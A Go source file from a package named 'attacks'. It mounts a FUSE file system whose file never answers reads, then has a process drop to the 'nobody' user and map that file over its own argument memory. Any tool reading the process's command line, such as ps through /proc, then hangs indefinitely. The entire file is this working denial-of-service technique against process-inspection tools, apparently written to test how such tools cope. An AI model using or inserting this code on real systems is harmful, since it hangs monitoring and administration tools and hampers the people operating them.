package attacks

import (
	"encoding/binary"
	"fmt"
	"os"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// serveMute mounts a FUSE file system with one file, "mute", whose reads are never answered.
func serveMute(dir string) {
	fd, err := unix.Open("/dev/fuse", unix.O_RDWR|unix.O_CLOEXEC, 0)
	check(err)
	options := fmt.Sprintf("fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd)
	check(unix.Mount("mute", dir, "fuse", unix.MS_NOSUID|unix.MS_NODEV, options))
	go ready()
	request := make([]byte, 1<<18)
	for {
		n, err := unix.Read(fd, request)
		if err == unix.EINTR {
			continue
		}
		check(err)
		if reply := answer(request[:n]); reply != nil {
			_, err = unix.Write(fd, reply)
			if err != unix.ENOENT { // the request was interrupted
				check(err)
			}
		}
	}
}

// Requests of FUSE (include/uapi/linux/fuse.h).
const (
	fuseLookup  = 1
	fuseGetattr = 3
	fuseOpen    = 14
	fuseRead    = 15
	fuseInit    = 26

	rootNode, fileNode = 1, 2
	muteSize           = 1 << 20
)

// answer returns the reply to a request; nil: none, ever.
func answer(request []byte) []byte {
	native := binary.NativeEndian
	header := native.AppendUint32(nil, 0) // the length, at last
	errno, body := int32(0), []byte(nil)
	switch op, node := native.Uint32(request[4:]), native.Uint64(request[16:]); op {
	case fuseRead:
		return nil
	case fuseInit:
		body = native.AppendUint32(native.AppendUint32(nil, 7), 31)
		body = append(body, make([]byte, 56)...)
		native.PutUint32(body[20:], 1<<16) // max_write
	case fuseLookup:
		body = native.AppendUint64(nil, fileNode)
		body = append(body, make([]byte, 8)...)
		body = native.AppendUint64(native.AppendUint64(body, 3600), 3600)
		body = append(append(body, make([]byte, 8)...), attributes(fileNode)...)
	case fuseGetattr:
		body = native.AppendUint64(nil, 3600)
		body = append(append(body, make([]byte, 8)...), attributes(node)...)
	case fuseOpen:
		body = make([]byte, 16)
	default:
		errno = -int32(unix.ENOSYS)
	}
	header = native.AppendUint32(header, uint32(errno))
	reply := append(append(header, request[8:16]...), body...)
	native.PutUint32(reply, uint32(len(reply)))
	return reply
}

// attributes is a struct fuse_attr.
func attributes(node uint64) []byte {
	native := binary.NativeEndian
	mode := uint32(unix.S_IFDIR | 0o755)
	if node == fileNode {
		mode = unix.S_IFREG | 0o644
	}
	attr := make([]byte, 88)
	native.PutUint64(attr, node)
	native.PutUint64(attr[8:], muteSize)
	native.PutUint32(attr[60:], mode)
	native.PutUint32(attr[64:], 1)
	native.PutUint32(attr[80:], 4096)
	return attr
}

// mute becomes another user and maps a file over its own arguments: who reads its command line reads the file.
func mute(file string) {
	page := uintptr(unsafe.Pointer(unsafe.StringData(os.Args[0]))) &^ 4095
	check(syscall.Setgid(65534))
	check(syscall.Setuid(65534))
	fd, err := unix.Open(file, unix.O_RDONLY, 0)
	check(err)
	_, _, errno := unix.Syscall6(unix.SYS_MMAP, page, 4096, unix.PROT_READ, unix.MAP_PRIVATE|unix.MAP_FIXED, uintptr(fd), 0)
	if errno != 0 {
		check(errno)
	}
	ready()
}
